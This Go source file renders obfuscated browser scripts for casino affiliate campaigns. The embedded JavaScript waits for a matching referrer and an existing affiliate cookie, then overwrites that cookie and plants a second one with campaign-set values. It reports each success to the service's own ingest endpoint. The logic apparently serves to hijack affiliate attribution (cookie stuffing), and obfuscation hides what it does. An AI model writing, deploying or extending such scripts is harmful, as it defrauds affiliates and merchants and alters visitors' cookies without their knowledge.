// Package script renders per-campaign browser tracking scripts and applies
// a cosmetic token-obfuscation pass to the result. The obfuscation is
// best-effort aliasing, not protection against reverse engineering.
package script

import (
	"fmt"
	"strings"
	"text/template"
	"time"

	"affitrack/internal/core/domain"
	"affitrack/internal/core/port"
)

// Renderer turns a campaign's template configuration into a self-contained
// browser script with the ingestion endpoint bound at render time.
type Renderer struct {
	baseURL string
}

// NewRenderer creates a renderer. baseURL is the public origin of this
// service, without a trailing slash.
func NewRenderer(baseURL string) *Renderer {
	return &Renderer{baseURL: strings.TrimRight(baseURL, "/")}
}

// Render produces the obfuscated tracking script for the campaign. The
// campaign must carry a fully populated template config; unknown template
// types fail with port.ErrUnsupportedTemplate.
func (r *Renderer) Render(c *domain.Campaign) (string, error) {
	switch c.TemplateConfig.TemplateType {
	case domain.TemplateMyaffiliates:
		raw, err := r.renderMyaffiliates(c)
		if err != nil {
			return "", err
		}
		return Obfuscate(raw), nil
	default:
		return "", fmt.Errorf("%w: %q", port.ErrUnsupportedTemplate, c.TemplateConfig.TemplateType)
	}
}

type templateData struct {
	CampaignID   int64
	CampaignName string
	Casino       string
	Config       domain.TemplateConfig
	IngestURL    string
}

func (r *Renderer) renderMyaffiliates(c *domain.Campaign) (string, error) {
	data := templateData{
		CampaignID:   c.ID,
		CampaignName: c.Name,
		Casino:       c.Casino,
		Config:       c.TemplateConfig,
		IngestURL:    r.baseURL + "/events/track",
	}
	var b strings.Builder
	if err := myaffiliatesTmpl.Execute(&b, data); err != nil {
		return "", fmt.Errorf("render script: %w", err)
	}
	return b.String(), nil
}

var myaffiliatesTmpl = template.Must(template.New("myaffiliates").
	Funcs(template.FuncMap{
		"iso": func(t time.Time) string { return t.UTC().Format(time.RFC3339) },
	}).
	Parse(myaffiliatesScript))

// The in-browser decision logic mirrored by the decision package. The
// regexes are embedded verbatim; cookie fields pass through the js escaper
// so values cannot break out of their string literals.
const myaffiliatesScript = `
(function() {
  'use strict';

  // Configuration
  const cookieA = {
    name: '{{js .Config.CookieA.Name}}',
    value: '{{js .Config.CookieA.Value}}',
    domain: '{{js .Config.CookieA.Domain}}',
    expiry: new Date('{{iso .Config.CookieA.Expiry}}')
  };

  const cookieB = {
    name: '{{js .Config.CookieB.Name}}',
    value: '{{js .Config.CookieB.Value}}',
    domain: '{{js .Config.CookieB.Domain}}',
    expiry: new Date('{{iso .Config.CookieB.Expiry}}')
  };

  const referrerRegex = /{{.Config.ReferrerRegex}}/i;
  const cookieARegex = /{{.Config.CookieARegex}}/i;

  // Utility functions
  function setCookie(name, value, domain, expiry) {
    try {
      const expires = expiry.toUTCString();
      document.cookie = name + '=' + encodeURIComponent(value) + ';domain=' + domain + ';expires=' + expires + ';path=/';
      return true;
    } catch (e) {
      return false;
    }
  }

  function getCookie(name) {
    try {
      const value = document.cookie
        .split(';')
        .find(row => row.trim().startsWith(name + '='));
      return value ? decodeURIComponent(value.split('=')[1]) : null;
    } catch (e) {
      return null;
    }
  }

  function checkReferrer() {
    try {
      return referrerRegex.test(document.referrer || '');
    } catch (e) {
      return false;
    }
  }

  function checkCookieA() {
    try {
      const cookieValue = getCookie(cookieA.name);
      return cookieValue && cookieARegex.test(cookieValue);
    } catch (e) {
      return false;
    }
  }

  function executeScript() {
    try {
      // Referrer gate
      if (!checkReferrer()) {
        return;
      }

      // Existing cookie A gate
      if (!checkCookieA()) {
        return;
      }

      // Plant both cookies
      const cookieASet = setCookie(cookieA.name, cookieA.value, cookieA.domain, cookieA.expiry);
      const cookieBSet = setCookie(cookieB.name, cookieB.value, cookieB.domain, cookieB.expiry);

      if (cookieASet && cookieBSet) {
        // Fire-and-forget tracking call
        fetch('{{js .IngestURL}}', {
          method: 'POST',
          headers: {
            'Content-Type': 'application/json'
          },
          body: JSON.stringify({
            campaignId: '{{.CampaignID}}',
            eventType: 'cookie_set',
            userAgent: navigator.userAgent,
            referrer: document.referrer,
            cookieData: {
              cookieA: cookieA.value,
              cookieB: cookieB.value
            },
            metadata: {
              sessionId: Date.now().toString(),
              campaignName: '{{js .CampaignName}}',
              casino: '{{js .Casino}}'
            }
          })
        }).catch(function(e) {});
      }
    } catch (e) {}
  }

  if (document.readyState === 'loading') {
    document.addEventListener('DOMContentLoaded', executeScript);
  } else {
    executeScript();
  }
})();
`
